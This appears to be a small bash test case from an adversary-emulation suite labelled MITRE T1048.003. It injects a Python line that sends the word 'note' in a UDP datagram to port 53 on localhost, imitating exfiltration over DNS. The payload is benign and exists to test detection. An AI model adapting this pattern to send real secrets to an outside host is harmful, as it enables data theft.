# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1048.003
about="a note leaves in a datagram"
attack() {
	inject '
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"note", ("127.0.0.1", 53))
print("sent")
'
}
effect() { grep -q sent "$state/answer"; }
